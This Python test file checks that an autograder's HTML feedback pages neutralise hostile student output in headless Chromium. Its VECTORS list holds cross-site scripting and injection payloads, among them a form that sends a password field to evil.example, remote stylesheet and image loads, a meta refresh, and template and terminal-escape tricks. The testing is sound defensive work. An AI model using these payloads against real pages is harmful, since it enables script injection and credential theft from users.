"""A feedback page in a real browser: nothing of a student's runs, loads or breaks the layout."""

from __future__ import annotations

import os
import shutil
from dataclasses import replace

import pytest

from grader.records import CellRun, Diagnosis, Ending, Raised
from grader.report.feedback import write_feedback
from tests.unit.report import builders

pytestmark = pytest.mark.browser
CHROMIUM = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
OPTIONS = ("--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run")
# Each would set the title, ask for a picture or leave the page, were it not literal text.
OWNED = "document.title='owned'"
VECTORS = {
    "script": f"<script>{OWNED}</script>",
    "closing": f"</pre></code></textarea></style></script><script>{OWNED}</script>",
    "img": f"<img src='https://evil.example/x.png' onerror=\"{OWNED}\">",
    "svg": f'<svg onload="{OWNED}"><animate onbegin="{OWNED}"/></svg>',
    "iframe": f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    "javascript": f'[click](javascript:{OWNED}) <a href="javascript:{OWNED}">x</a>',
    "meta": "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "base": "<base href=//evil.example><link rel=stylesheet href=//evil.example/a.css>",
    "style": "</style><style>@import url(https://evil.example/a.css);*{display:none}</style>",
    "overlay": "<div style='position:fixed;inset:0;background:#fff'>100 / 100</div>",
    "form": "<form action=https://evil.example/><input name=password autofocus></form>",
    "attribute": f'"\' onmouseover="{OWNED}" autofocus onfocus="{OWNED}" x="',
    "mermaid": f'graph TD; A["<img src=x onerror={OWNED}>"] --> B',
    "mathjax": f"$$\\href{{javascript:{OWNED}}}{{x}}\\require{{html}}$$",
    "template": "{{7*7}}{{''.__class__}}{%raw%}{0.__class__}%(x)s",
    "comment": f"--><script>{OWNED}</script><!--",
    "cdata": f"]]><script>{OWNED}</script>",
    "terminal": "\x1b]8;;https://evil.example\x1b\\link\x1b[2J\u202egnp.exe",
    "surrogate": f"\ud83d<script>{OWNED}</script>",
}


@pytest.fixture(scope="module")
def browser():
    """A headless Chromium; where there is none, the test is skipped, but fails in CI."""
    found = next((path for name in CHROMIUM if (path := shutil.which(name))), None)
    if found is None:
        absent = pytest.fail if os.environ.get("CI") else pytest.skip
        absent("Chromium is not installed; on Debian: apt-get install chromium")
    sync_api = pytest.importorskip("playwright.sync_api")
    with sync_api.sync_playwright() as playwright:
        started = playwright.chromium.launch(executable_path=found, args=list(OPTIONS))
        yield started.new_context()
        started.close()


class Visit:
    """A page that was opened: what it asked for and what its scripts said."""

    def __init__(self, browser, path, width=1280):
        self.requests: list[str] = []
        self.refused: list[tuple[str, str]] = []
        self.said: list[str] = []
        self._path = path
        self.page = browser.new_page()
        self.page.set_viewport_size({"width": width, "height": 900})
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on(
            "requestfailed", lambda failed: self.refused.append((failed.url, failed.failure))
        )
        self.page.on("dialog", lambda dialog: (self.said.append("dialog"), dialog.dismiss()))
        self.page.on("popup", lambda _: self.said.append("popup"))
        self.page.on("pageerror", lambda error: self.said.append(str(error)))
        self.page.goto(path.as_uri())

    @property
    def left(self) -> list[str]:
        """Requests other than the page itself and its inline pictures."""
        own = self._path.as_uri()
        return [url for url in self.requests if url != own and not url.startswith("data:image/png")]


def hostile(text: str):
    """The text in every field that can come from a student, and a PNG that claims too much."""
    made = builders.mistaken()
    outputs = [
        builders.stream(text),
        builders.stream(text, "stderr"),
        builders.display(text_plain=text),
        builders.display(image_png=text),
        builders.display(image_png=builders.picture()[:300]),
        {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
    ]
    live = ("text/html", "image/svg+xml", "text/vnd.mermaid", "text/latex", "text/markdown")
    outputs += [{"output_type": "display_data", "data": {mime: text}} for mime in live]
    diagnosis = Diagnosis(text, text, text, text)
    questions = tuple(
        replace(
            question,
            note=text,
            score=1.0,
            tests=tuple(
                replace(test, title=text, passed=False, diagnosis=diagnosis)
                for test in question.tests
            ),
        )
        for question in made.questions
    )
    cells = tuple(replace(cell, source=text) for cell in made.program.cells)
    run = CellRun(Ending.RAISED, tuple(outputs), Raised(text, text, 1, 1))
    return replace(
        made,
        student=text,
        file=text,
        flags=(text,),
        notes=(text,),
        questions=questions,
        program=replace(made.program, cells=cells),
        execution=replace(made.execution, cells=(run,) * len(cells)),
    )


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_a_student_runs_or_leaves_the_page(vector: str, browser, tmp_path):
    """No script runs, no request leaves, nothing navigates: on the page and on the index."""
    index = write_feedback(tmp_path, builders.assignment(), [hostile(VECTORS[vector])])

    for path in tmp_path.iterdir():
        visit = Visit(browser, path)
        title = visit.page.title()
        visit.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
        visit.page.mouse.move(300, 300)
        visit.page.keyboard.press("Tab")

        assert visit.page.url == path.as_uri()
        assert visit.left == []
        assert visit.said == []
        assert visit.page.title() == title != "owned"
        found = visit.page.evaluate(
            "[...document.querySelectorAll('script, iframe, form, input, object, embed, base,"
            " link, [onerror], [onload], [onfocus], [onmouseover], [autofocus],"
            " [href^=javascript], main div[style]')].length"
        )
        assert found == 0
        visit.page.close()
    assert index.exists()


def test_the_policy_stops_what_would_slip_through(browser, tmp_path):
    """The second lock: a script, a picture and a style written into the file do nothing."""
    write_feedback(tmp_path, builders.assignment(), [builders.submission("Ada")])
    path = next(path for path in tmp_path.iterdir() if path.name != "index.html")
    slipped = (
        "<script>document.title='owned'</script><img src='https://evil.example/x.png' "
        "onerror=\"document.title='owned'\"><link rel=stylesheet href='https://evil.example/a.css'>"
        "<iframe src='https://evil.example/'></iframe>"
    )
    path.write_text(path.read_text().replace("</main>", f"{slipped}</main>"))

    visit = Visit(browser, path)

    assert visit.page.title() != "owned"
    assert {reason for _, reason in visit.refused} <= {"csp"}
    assert set(visit.left) <= {url for url, _ in visit.refused}
    visit.page.close()


@pytest.mark.parametrize("width", [390, 1280])
def test_every_page_fits_the_width_of_its_screen(width: int, browser, tmp_path):
    """Neither a phone nor a desk scrolls sideways, whatever the result."""
    wide = hostile("wide_" * 400)
    write_feedback(tmp_path, builders.assignment(), [*builders.everyone(), wide])

    for path in sorted(tmp_path.iterdir()):
        visit = Visit(browser, path, width)
        visit.page.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")

        assert visit.page.evaluate("document.documentElement.scrollWidth") <= width, path.name
        visit.page.close()


def test_a_marked_line_and_a_picture_are_seen(browser, tmp_path):
    """The student sees the line at which an error arose, and the plot of the cell."""
    write_feedback(tmp_path, builders.assignment(), [builders.mistaken()])
    path = next(path for path in tmp_path.iterdir() if path.name != "index.html")

    page = Visit(browser, path).page

    mark, image = page.locator("mark"), page.locator("img")
    assert mark.is_visible()
    assert image.evaluate("image => image.complete && image.naturalWidth") == 520
    following = page.locator("details.code[open] .lines code").first.inner_text().splitlines()
    assert following[9].strip().startswith("patch")
    assert following[10].strip().startswith("y[")
    page.close()


def test_a_passed_question_opens_by_keyboard(browser, tmp_path):
    """Folded questions are reached and opened without a mouse."""
    write_feedback(tmp_path, builders.assignment(), [builders.submission()])
    path = next(path for path in tmp_path.iterdir() if path.name != "index.html")
    page = Visit(browser, path).page

    page.locator("summary").first.focus()
    page.keyboard.press("Enter")

    assert page.locator("details").first.get_attribute("open") is not None
    page.close()
